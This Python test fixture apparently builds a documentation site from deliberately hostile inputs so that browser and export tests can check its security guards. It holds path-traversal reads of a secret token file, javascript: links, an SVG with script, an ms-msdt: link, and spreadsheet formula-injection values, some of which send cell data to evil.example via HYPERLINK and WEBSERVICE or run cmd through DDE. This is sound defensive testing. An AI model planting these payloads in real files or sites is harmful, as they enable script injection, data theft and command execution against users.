"""One small site built with every hostile input of issue 21 that still builds: the
browser test opens every page and SVG file it serves, the export test reads its
exports back. Built without -W, so the guards' warnings do not stop it and whatever
the build would publish is there to be judged.

The inputs: reads outside the tree (literalinclude, csv-table, include, an image, a
download of an HTML file), a javascript: image target, graph URL and reStructuredText
link, a graph style sheet from another site, an SVG image with a script, raw HTML
with a ``ms-msdt:`` link, a page named like a javascript: URL, and titles, owners and
bodies that spreadsheets would run as formulas.
"""

from __future__ import annotations

from pathlib import Path

import sphinxproject

SECRET = "s3cr3t-build-token"
FORMULAS = {"title": '=HYPERLINK("https://evil.example/?q="&A1,"Open the plan")',
            "owner": "+cmd|' /C calc'!A0", "body": "@SUM(1+1)*cmd|' /C calc'!A0"}
EVIL_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" '
            'width="40" height="20">\n<a x:href="javascript:alert(\'svg-link\')"><rect '
            'width="40" height="20"/></a>\n<script>alert(\'svg-script\')</script>\n</svg>\n')
READS = """# Hostile reads

```{literalinclude} ../token.txt
```

```{csv-table} Accounts
:file: ../token.txt
```

```{include} ../token.txt
```

```{image} evil.svg
:alt: chart
```

```{image} plain.svg
:alt: plain
:target: javascript:alert('image-target')
```

```{graphviz}
digraph { graph [stylesheet="https://cdn.example.com/g.css"];
  a [URL="javascript:alert('graph')", label="a"]; }
```

```{eval-rst}
See `the approval <javascript:alert('rst-link')>`_.

.. literalinclude:: ../token.txt
```

Get {download}`the report <report.html>` and see ![token](../token.txt).

<a href="ms-msdt:/id PCWDiagnostic">diagnostics</a> and <script>alert('raw')</script>
"""
PAGE_NAME = "javascript:alert('page-name')"
CHANGES = {"MS-A-01": {"title": FORMULAS["title"], "owner": FORMULAS["owner"]},
           "GAP-A": {"title": "-2+3+cmd|' /C calc'!A0"},
           "RSK-A": {"contingency": "=WEBSERVICE(\"https://evil.example/\")"}}
PLAIN_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20">'
             '<rect width="40" height="20"/></svg>\n')


def build(root: Path) -> sphinxproject.Built:
    (root / "token.txt").write_text(SECRET + "\n", encoding="utf-8")
    files = {"evil.svg": EVIL_SVG, "plain.svg": PLAIN_SVG,
             "report.html": "<script>alert('download')</script>\n"}
    pages = {"reads": READS, PAGE_NAME: "# A page named like a script\n\nText.\n"}
    return sphinxproject.build(root, pages, changes=CHANGES, files=files)
